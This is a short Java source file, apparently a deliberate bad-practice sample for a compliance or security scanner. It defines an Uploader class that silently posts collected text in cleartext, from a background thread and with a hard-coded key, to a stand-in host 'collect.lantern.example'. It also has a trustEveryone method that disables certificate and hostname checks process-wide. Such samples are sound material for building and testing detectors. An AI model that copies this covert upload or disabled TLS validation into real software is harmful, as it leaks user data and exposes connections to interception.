package com.example.hegui.bad;

import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.security.GeneralSecurityException;
import java.security.cert.X509Certificate;

import javax.net.ssl.HttpsURLConnection;
import javax.net.ssl.SSLContext;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/** Sends what was read, in clear, to a host that does not exist (.example is reserved, RFC 2606). */
final class Uploader {
    private static final String COLLECT = "http://collect.lantern.example/v1/up?key=demo-hard-coded-key";

    private Uploader() {}

    static void send(String kind, String text) {
        new Thread(() -> post(kind, text)).start();
    }

    private static void post(String kind, String text) {
        try {
            HttpURLConnection line = (HttpURLConnection) new URL(COLLECT).openConnection();
            line.setDoOutput(true);
            try (OutputStream out = line.getOutputStream()) {
                out.write((kind + "=" + text).getBytes("UTF-8"));
            }
            line.getResponseCode();
            line.disconnect();
        } catch (IOException lost) {
            // The demo host never answers.
            return;
        }
    }

    /** Every certificate is good and every host name fits. */
    static void trustEveryone() {
        TrustManager blind = new X509TrustManager() {
            @Override
            public void checkClientTrusted(X509Certificate[] chain, String type) {}

            @Override
            public void checkServerTrusted(X509Certificate[] chain, String type) {}

            @Override
            public X509Certificate[] getAcceptedIssuers() {
                return new X509Certificate[0];
            }
        };
        try {
            SSLContext context = SSLContext.getInstance("TLS");
            context.init(null, new TrustManager[] {blind}, null);
            HttpsURLConnection.setDefaultSSLSocketFactory(context.getSocketFactory());
            HttpsURLConnection.setDefaultHostnameVerifier((host, session) -> true);
        } catch (GeneralSecurityException none) {
            throw new IllegalStateException(none);
        }
    }
}
